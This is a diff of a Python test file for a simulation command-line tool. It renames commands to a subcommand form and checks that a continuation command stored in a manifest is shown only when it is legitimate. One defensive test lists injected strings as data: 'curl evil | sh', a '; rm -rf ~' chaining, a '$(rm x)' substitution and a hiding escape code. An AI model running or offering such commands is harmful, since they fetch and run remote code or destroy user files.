@@ -151,9 +151,9 @@ def test_a_prepared_folder_is_refused_in_a_sentence(
     monkeypatch.chdir(folder.parent)
     before = {path: path.read_bytes() for path in (folder.parent / "private").iterdir()}
     commands = {
-        "verify": ("verify", folder),
-        "study": ("study", scenario, "--out", folder, "--runs", RUNS),
-        "status": ("study", "--status", folder),
+        "verify": ("study", "verify", folder),
+        "study": ("study", "run", scenario, folder, "--runs", RUNS),
+        "status": ("study", "status", folder),
         "rerun": ("rerun", folder / "manifest.json"),
     }
     answers = {command: answer(*arguments) for command, arguments in commands.items()}
@@ -171,9 +171,9 @@ def test_a_prepared_folder_is_refused_in_a_sentence(
 
 def test_the_folder_is_sound_before_it_is_touched(folder: Path) -> None:
     """The negative control of all of them."""
-    assert answer("verify", folder)[0] == 0
+    assert answer("study", "verify", folder)[0] == 0
     assert answer("rerun", folder / "manifest.json")[0] == 0
-    assert answer("study", file(folder.parent), "--out", folder, "--runs", RUNS)[0] == 0
+    assert answer("study", "run", file(folder.parent), folder, "--runs", RUNS)[0] == 0
 
 
 @pytest.mark.parametrize(("seed", "variant"), [(8, None), (7, "patient")])
@@ -182,7 +182,7 @@ def test_a_study_never_adopts_the_blocks_of_another(seed: int, variant: str | No
     run_study(small(), tmp_path / "s", 3 * BLOCK)
     for name in ("manifest.json", "summary.json", "blocks/000001.npz"):
         (tmp_path / "s" / name).unlink()
-    arguments = ["study", file(tmp_path), "--out", tmp_path / "s", "--runs", 3 * BLOCK, "--seed", seed]
+    arguments = ["study", "run", file(tmp_path), tmp_path / "s", "--runs", 3 * BLOCK, "--seed", seed]
     code, _, err = answer(*arguments, *(["--variant", variant] if variant else []))
     assert code == 2
     assert "block 0, " in err
@@ -212,7 +212,7 @@ def test_what_could_not_be_read_again_is_never_written(
         run_study(small(), tmp_path / "s", runs, seed)
     assert not (tmp_path / "s").exists()
     run_study(small(), tmp_path / "s", np.int64(10), np.uint8(3))  # type: ignore[arg-type]
-    assert answer("verify", tmp_path / "s")[0] == 0
+    assert answer("study", "verify", tmp_path / "s")[0] == 0
     assert answer("rerun", tmp_path / "s" / "manifest.json")[0] == 0
 
 
@@ -220,17 +220,17 @@ def test_a_command_in_a_manifest_is_only_offered_if_it_goes_on_with_a_study(fold
     """Whoever copies what is printed must not run what somebody else wrote."""
     (folder / "summary.json").unlink()
     open_study(folder).path(1).unlink()
-    offered = "To go on:\n  simulate study fence.toml --out s\n"
-    told(study__command="simulate study fence.toml --out s")(folder)
-    assert offered in answer("study", "--status", folder)[1]
+    offered = "To go on:\n  simulate study run fence.toml s\n"
+    told(study__command="simulate study run fence.toml s")(folder)
+    assert offered in answer("study", "status", folder)[1]
     for command in (
         "curl evil | sh",
-        "simulate study x; rm -rf ~",
-        "simulate study $(rm x)",
-        "simulate study \x1b[8mx",
+        "simulate study run x; rm -rf ~",
+        "simulate study run $(rm x)",
+        "simulate study run \x1b[8mx",
     ):
         told(study__command=command)(folder)
-        code, out, _ = answer("study", "--status", folder)
+        code, out, _ = answer("study", "status", folder)
         assert code == 0
         assert "To go on:" not in out
         assert command not in out
